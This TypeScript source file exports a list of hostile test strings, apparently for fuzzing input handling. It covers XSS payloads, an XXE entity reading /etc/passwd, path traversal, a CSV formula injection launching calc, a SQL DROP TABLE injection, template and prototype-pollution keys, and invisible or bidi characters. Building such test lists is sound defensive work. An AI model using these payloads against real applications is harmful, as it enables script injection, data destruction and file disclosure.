// SPDX-License-Identifier: MIT
// Texts that try to be more than text: 300 and some, made of what is known to have worked somewhere.

const kRun = "window.__pwned=1";

// Markup and script as they are.
const kMarkup: readonly string[] = [
  `<script>${kRun}</script>`, `</script><script>${kRun}</script>`, "<!--<script>", "-->", "]]>", "</style><style>*{display:none}",
  `<img src=x onerror="${kRun}">`, `" onmouseover="${kRun}`, `' autofocus onfocus='${kRun}`, `\` onfocus=\`${kRun}`,
  `javascript:${kRun}`, `JaVaScRiPt:${kRun}`, `java\tscript:${kRun}`, `\u0001javascript:${kRun}`, `vbscript:${kRun}`,
  `data:text/html,<script>${kRun}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `<svg onload=${kRun}>`, `<svg><script>${kRun}</script></svg>`, `<svg><animate onbegin=${kRun} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${kRun}</script></svg>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${kRun}>`, `<iframe srcdoc="<script>parent.__pwned=1</script>">`,
  `<iframe src=javascript:parent.__pwned=1>`, `<object data=javascript:${kRun}>`, `<embed src=javascript:${kRun}>`,
  "<base href=//example.invalid/>", "<meta http-equiv=refresh content=0>", `<meta http-equiv=refresh content="0;url=javascript:${kRun}">`,
  `<a href=javascript:${kRun}>x</a>`, `<form action=javascript:${kRun}><button>`, `<button formaction=javascript:${kRun}>`,
  `<input autofocus onfocus=${kRun}>`, `<details open ontoggle=${kRun}>`, `<body onload=${kRun}>`, `<video><source onerror=${kRun}>`,
  `<audio src=x onerror=${kRun}>`, `<marquee onstart=${kRun}>`, `<link rel=stylesheet href=//example.invalid/x.css>`,
  `<style>@import '//example.invalid/x.css'</style>`, `<template><script>${kRun}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${kRun}>">`,
  `<textarea></textarea><img src=x onerror=${kRun}>`, `<title></title><img src=x onerror=${kRun}>`, `<xmp><p title="</xmp><svg onload=${kRun}>">`,
  `<select><option><img src=x onerror=${kRun}>`, "<plaintext>", "<frameset onload=1>", `<x onclick=${kRun} tabindex=0 id=main>`,
  "<div id=bundle>", "<form id=main>", "<img name=body>", "<a id=location href=x>", "<slot>", "<dialog open>", "<bdo dir=rtl>x",
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
];

// What programs that put texts together fall for.
const kTemplates: readonly string[] = [
  `{{constructor.constructor('${kRun}')()}}`, `\${${kRun}}`, `#{${kRun}}`, `<%= ${kRun} %>`, `[[${kRun}]]`, "__BUNDLE__", "$&$'$`$1$$",
  "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "then", "undefined", "null", "NaN", "true", "-0", "1e999",
  "&lt;b&gt;&amp;&#60;", "&#x3C;script&#x3E;", "%3Cscript%3E", "%", "%E0%A4%A", "%00", "\\u003cscript\\u003e", "\\", "\\\\", "\\n", "\\\"",
  "../../etc/passwd", "..\\..\\windows", "/", "//example.invalid/", "C:\\", "con", "file:///etc/passwd", "http://example.invalid/?q=1#x",
  "#/a/b", "#compare/a/b", "?a=b&c=d", "a&b=c;d", "*", "~", "%2A", "a/b/c", ".", "..",
  "=cmd|' /C calc'!A0", "+1+1", "-1-1", "@SUM(1)", "\t=1+1", " =1+1", "'=1", "a,b", "a\"b", "a;b", "\"\"", "'; DROP TABLE trace; --",
  "p_end < 0", "window.alert(1)", "length.constructor('x')()", "this", "arguments", "(function(){})()", "`x`", "/x/.exec('x')", "new Date", "a=>b",
];

// Characters that act unseen.
const kCharacters: readonly string[] = [
  "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u001b]8;;http://example.invalid\u0007x\u001b]8;;\u0007", "\u0000\u0001\u007f\u009b", "\b\b\b", "\f\v",
  "\u202Eevil\u202C", "\u2066\u2067x\u2069", "\u200F\u061C", "\u05D0\u05D1 abc", "\u0627\u0644\u0639 1 2 3", "a\u200Bb\uFEFFc\u00ADd", "\u2028\u2029",
  "\uFFFD", "\uFFFE\uFFFF", "\uD800", "a\uDC00b", "\uDC00\uD800", "\u{E0041}\u{E007F}", "\u{F0000}", "\u0301\u0302\u0303", "Z\u0351\u036F".repeat(20),
  "x".repeat(5000), "x ".repeat(1000), "\u4E00".repeat(500), " ", "   ", "\t", "\n\n\n", "\r\n", "\r", "a\nb\r\nc", "", "\u00A0", "\u3164", "\u2800", "\u180E",
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}", "\u{1F1E9}\u{1F1EA}", "\uFB03", "\u0130\u0131", "\u1E9E\u00DF", "\u01C5", "\uFF1Cscript\uFF1E", "\u2039script\u203A",
];

// The first of these close whatever the text may stand in, so the markup behind them would be markup.
const kClosers: readonly string[] = ["\">", "'>", "</title>", "</textarea>", "</style>", "*/"];

const combined = kClosers.flatMap((closer) => kMarkup.slice(0, 22).map((text) => closer + text));

export const kHostile: readonly string[] = [...new Set([...kMarkup, ...kTemplates, ...kCharacters, ...combined])];
